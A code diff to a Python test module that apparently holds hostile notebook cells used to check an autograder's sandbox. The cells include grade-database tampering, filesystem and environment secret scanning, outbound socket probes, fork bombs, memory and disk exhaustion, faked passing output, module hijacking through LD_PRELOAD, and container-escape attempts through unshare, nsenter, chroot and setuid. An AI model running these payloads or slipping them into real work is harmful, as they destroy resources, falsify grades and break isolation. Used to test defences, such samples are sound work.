@@ -1,8 +1,7 @@
 """What hostile cells do to the machine that grades them; see `hostile`."""
 
-from .hostile_answers import NOTHING
-
-SOCKETS = """
+CELLS = {
+    "replaces sockets": """
 import glob, os, contextlib
 def spoil():
     for path in glob.glob('/tmp/dl-*/**', recursive=True):
@@ -15,9 +14,8 @@ def answer(name):
         spoil()
         raise NotImplementedError
     return wrong
-"""
-WRITES = (
-    """
+""",
+    "writes files": """
 import contextlib, glob, os, sqlite3
 for path in ['SPOILS/kept', 'SPOILS/new', 'COURSE/gradebook.db', 'LIBRARY/lab/check.py', 'LIBRARY/__init__.py',
              *glob.glob('COURSE/**/*.ipynb', recursive=True), *glob.glob('../../**/*.ipynb', recursive=True),
@@ -29,11 +27,8 @@ with contextlib.suppress(Exception):
     book = sqlite3.connect('COURSE/gradebook.db')
     book.execute('update grade set auto_score = 100, manual_score = 100')
     book.commit()
-"""
-    + NOTHING
-)
-READS = (
-    """
+""",
+    "reads files": """
 import contextlib, glob, os
 roots = ['COURSE', '../../..', 'SPOILS', '/proc/[0-9]*', *glob.glob('/*')]
 for root in roots:
@@ -45,11 +40,8 @@ for root in roots:
                     if word in data:
                         print('found', path, data[:200])
 print(dict(os.environ))
-"""
-    + NOTHING
-)
-SENDS = (
-    """
+""",
+    "sends": """
 import contextlib, socket, urllib.request
 for kind, where in [(socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('10.0.0.1', 80)),
                     (socket.AF_UNIX, '\\0hostile'),
@@ -61,11 +53,8 @@ for kind, where in [(socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('10
         print('CONN' + 'ECTED', where)
 with contextlib.suppress(OSError):
     print('CONN' + 'ECTED', urllib.request.urlopen('http://127.0.0.1:PORT', timeout=1))
-"""
-    + NOTHING
-)
-STAYS = (
-    """
+""",
+    "leaves processes": """
 import os, subprocess, sys
 for how in ({'start_new_session': True}, {'process_group': 0}):
     subprocess.Popen(['sleep', '90909'], **how, env={})
@@ -75,10 +64,8 @@ if os.fork() == 0:
         os.closerange(0, 256)
         os.execv('/bin/sleep', ['sleep', '90909'])
     os._exit(0)
-"""
-    + NOTHING
-)
-FORKS = """
+""",
+    "forks": """
 import os, time, contextlib
 def answer(name):
     def bomb(*args, **kwargs):
@@ -89,8 +76,8 @@ def answer(name):
                     os._exit(0)
         while True: time.sleep(1)
     return bomb
-"""
-HOGS = """
+""",
+    "takes memory": """
 import numpy as np
 def answer(name):
     def hog(*args, **kwargs):
@@ -98,9 +85,8 @@ def answer(name):
         while True:
             kept.append(np.ones(10_000_000))
     return hog
-"""
-FILLS = (
-    """
+""",
+    "fills disks": """
 import glob, os, contextlib
 for folder in [os.path.expanduser('~'), '/tmp', '/dev/shm', '/var/tmp', 'SPOILS', '/', '/dev', '/etc', '/opt',
                *glob.glob('/tmp/dl-*')]:
@@ -110,10 +96,8 @@ for folder in [os.path.expanduser('~'), '/tmp', '/dev/shm', '/var/tmp', 'SPOILS'
                 for _ in range(100):
                     file.write(bytes(10_000_000))
                 print('REACHED', folder)
-"""
-    + NOTHING
-)
-LOOPS = """
+""",
+    "never ends": """
 import signal, time
 def answer(name):
     def loop(*args, **kwargs):
@@ -124,16 +108,16 @@ def answer(name):
             except BaseException:
                 pass
     return loop
-"""
-FLOODS = """
+""",
+    "floods": """
 def answer(name):
     def flood(*args, **kwargs):
         for _ in range(300):
             print('x' * 1_000_000)
         return 'y' * 300_000_000
     return flood
-"""
-SHOWS = """
+""",
+    "shows a pass": """
 from IPython.display import display, HTML
 shell = get_ipython()
 def say(*args, **kwargs):
@@ -147,8 +131,8 @@ def say(*args, **kwargs):
     return 4
 say()
 def answer(name): return say
-"""
-IMPORTS = """
+""",
+    "hides modules": """
 import os
 for folder in ('.', os.path.expanduser('~'), '/tmp', os.path.expanduser('~/.ipython/profile_default/startup')):
     os.makedirs(folder, exist_ok=True)
@@ -158,8 +142,8 @@ for folder in ('.', os.path.expanduser('~'), '/tmp', os.path.expanduser('~/.ipyt
 os.environ.update(PYTHONPATH='/tmp', LD_PRELOAD='/tmp/x.so', PYTHONSTARTUP='/tmp/numpy.py', NBGRADER_EXECUTION='')
 def answer(name):
     return lambda *args, **kwargs: os._exit(1)
-"""
-REACHES = """
+""",
+    "reaches through objects": """
 def answer(name):
     def reach(*args, **kwargs):
         for thing in args:
@@ -178,66 +162,8 @@ def answer(name):
                     print('REACH' + 'ED', name)
         raise NotImplementedError
     return reach
-"""
-CLOCKS = """
-def answer(name):
-    def cheat(*args, **kwargs):
-        for thing in args:
-            clock = getattr(thing, 'clock', None)
-            if clock is not None:
-                for seconds in (-1e9, float('nan'), float('-inf')):
-                    try: clock.sleep(seconds)
-                    except Exception: pass
-                with clock.span('x', flops=-1e15, nbytes=-1e15): pass
-        return None
-    return cheat
-"""
-ESCAPES = (
-    """
-import ctypes, os, subprocess, contextlib
-libc = ctypes.CDLL(None, use_errno=True)
-for words in (['mount', '-t', 'tmpfs', 'x', '/usr'],
-              ['unshare', '-Urm', 'sh', '-c', 'touch SPOILS/escaped; cat SPOILS/kept'],
-              ['nsenter', '-t', '1', '-m', 'touch', 'SPOILS/escaped'], ['sudo', '-n', 'touch', 'SPOILS/escaped'],
-              ['chroot', '/proc/1/root', 'touch', 'SPOILS/escaped'], ['mknod', '/tmp/disk', 'b', '8', '0']):
-    with contextlib.suppress(OSError):
-        print(subprocess.run(words, capture_output=True, timeout=5).stdout)
-for number in (1, 2, 3, os.getppid()):
-    libc.ptrace(16, number, 0, 0)
-for path in ('/proc/1/cwd/../../SPOILS/kept', '../../../../SPOILS/kept', '/proc/sys/kernel/core_pattern'):
-    with contextlib.suppress(OSError):
-        with open(path, 'a') as file: file.write('spoiled')
-libc.setuid(0)
-"""
-    + NOTHING
-)
-DEEP = """
-def answer(name):
-    def deep(*args, **kwargs):
-        x = []
-        for _ in range(100_000): x = [x]
-        y = {}
-        y['y'] = y
-        return [x, y, 10 ** 100_000, 'z' * 1000, type('T' * 1000, (), {})(), (i for i in iter(int, 1))]
-    return deep
-"""
-KERNELS = """
-CODE = '''
-extern "C" int system(const char*);
-extern "C" long write(int, const void*, unsigned long);
-extern "C" void _exit(int);
-extern "C" __global__ void NAME(float* a, float* b, float* c, int m, int n, int k) {
-    system("touch SPOILS/kernel; echo spoiled >> SPOILS/kept; sleep 90909 &");
-    for (int i = 0; i < m; i++) c[i] = 0;
-    const char* report = "{\\\\"errors\\\\": []}";
-    long size = 14;
-    write(1, &size, 8); write(1, report, 14); _exit(0);
-}
-'''
-def answer(name):
-    return lambda *args, **kwargs: CODE.replace('NAME', name)
-"""
-GARBLES = """
+""",
+    "garbles its kernel's sockets": """
 def answer(name):
     def garble(*args, **kwargs):
         kernel = get_ipython().kernel
@@ -256,4 +182,60 @@ def answer(name):
                 session.send(stream, kind, content, parent=parent, ident=to)
         raise NotImplementedError
     return garble
-"""
+""",
+    "turns clocks": """
+def answer(name):
+    def cheat(*args, **kwargs):
+        for thing in args:
+            clock = getattr(thing, 'clock', None)
+            if clock is not None:
+                for seconds in (-1e9, float('nan'), float('-inf')):
+                    try: clock.sleep(seconds)
+                    except Exception: pass
+                with clock.span('x', flops=-1e15, nbytes=-1e15): pass
+        return None
+    return cheat
+""",
+    "leaves its namespace": """
+import ctypes, os, subprocess, contextlib
+libc = ctypes.CDLL(None, use_errno=True)
+for words in (['mount', '-t', 'tmpfs', 'x', '/usr'],
+              ['unshare', '-Urm', 'sh', '-c', 'touch SPOILS/escaped; cat SPOILS/kept'],
+              ['nsenter', '-t', '1', '-m', 'touch', 'SPOILS/escaped'], ['sudo', '-n', 'touch', 'SPOILS/escaped'],
+              ['chroot', '/proc/1/root', 'touch', 'SPOILS/escaped'], ['mknod', '/tmp/disk', 'b', '8', '0']):
+    with contextlib.suppress(OSError):
+        print(subprocess.run(words, capture_output=True, timeout=5).stdout)
+for number in (1, 2, 3, os.getppid()):
+    libc.ptrace(16, number, 0, 0)
+for path in ('/proc/1/cwd/../../SPOILS/kept', '../../../../SPOILS/kept', '/proc/sys/kernel/core_pattern'):
+    with contextlib.suppress(OSError):
+        with open(path, 'a') as file: file.write('spoiled')
+libc.setuid(0)
+""",
+    "returns the unreadable": """
+def answer(name):
+    def deep(*args, **kwargs):
+        x = []
+        for _ in range(100_000): x = [x]
+        y = {}
+        y['y'] = y
+        return [x, y, 10 ** 100_000, 'z' * 1000, type('T' * 1000, (), {})(), (i for i in iter(int, 1))]
+    return deep
+""",
+    "runs commands in kernels": """
+CODE = '''
+extern "C" int system(const char*);
+extern "C" long write(int, const void*, unsigned long);
+extern "C" void _exit(int);
+extern "C" __global__ void NAME(float* a, float* b, float* c, int m, int n, int k) {
+    system("touch SPOILS/kernel; echo spoiled >> SPOILS/kept; sleep 90909 &");
+    for (int i = 0; i < m; i++) c[i] = 0;
+    const char* report = "{\\\\"errors\\\\": []}";
+    long size = 14;
+    write(1, &size, 8); write(1, report, 14); _exit(0);
+}
+'''
+def answer(name):
+    return lambda *args, **kwargs: CODE.replace('NAME', name)
+""",
+}
